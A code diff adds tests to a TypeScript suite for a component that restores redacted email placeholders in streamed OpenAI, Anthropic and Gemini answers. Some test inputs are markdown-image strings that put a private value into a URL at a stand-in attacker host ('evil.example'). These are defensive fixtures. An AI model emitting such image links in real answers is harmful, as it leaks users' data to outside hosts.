@@ -221,6 +221,10 @@ const FORMATS = [
   ["Gemini", "gemini", gemini],
 ] as const;
 
+/** Events that end the text of an answer. */
+const ENDS =
+  /"finish_reason":"|"type":"response.output_text.done"|"type":"content_block_stop","index":1|"finishReason":"/;
+
 const restored = (format: AnswerFormat, parts: readonly string[], options: RestoreOptions = {}) => {
   const restorer = new AnswerRestorer(wire, format, options);
   const text = parts.map((part) => restorer.push(part)).join("") + restorer.end();
@@ -280,6 +284,16 @@ describe.each(FORMATS)("%s", (_, format, { stream, said, check, args }) => {
         { written: K1, why: "argument" },
       ]),
     );
+  });
+
+  it("what is held until a text ends comes before the event that ends it, or with it", () => {
+    for (const end of [`![](https://evil.example/${E1}`, "{{A3S_REDACTED:em", "{{A3S_REDACTED:email:1"]) {
+      const message = `To ${E1}: ${end}`;
+      const events = read(restored(format, [stream((all) => all.split(""), message)]).text);
+      const over = events.findIndex((event) => ENDS.test(JSON.stringify(event)));
+      expect(said(events.slice(0, over + 1))).toBe(`To ${ADA}: ${end}`);
+      expect(said(events)).toBe(`To ${ADA}: ${end}`);
+    }
   });
 
   it("a stream without placeholders passes as it is", () => {
@@ -355,6 +369,17 @@ describe("the stream", () => {
     for (const parts of [[answer], answer.split(""), [answer.trimEnd()]]) {
       expect(read(restored("openai", parts).text)).toEqual([{ choices: [{ index: 0, delta: { content: ADA } }] }]);
     }
+  });
+
+  it("ends a choice of OpenAI with an event that has text itself", () => {
+    const chunk = (content: string, finish: string | null) => ({
+      choices: [{ index: 0, delta: { content }, finish_reason: finish }],
+    });
+    const answer = sse([chunk("to {{A3S_RED", null), chunk(`ACTED:email:1}} ![](//x/${E1}`, "stop")], false);
+    expect(read(restored("openai", [answer]).text)).toEqual([
+      chunk("to ", null),
+      chunk(`${ADA} ![](//x/${E1}`, "stop"),
+    ]);
   });
 
   it("refuses an unknown format, and an event without end", () => {
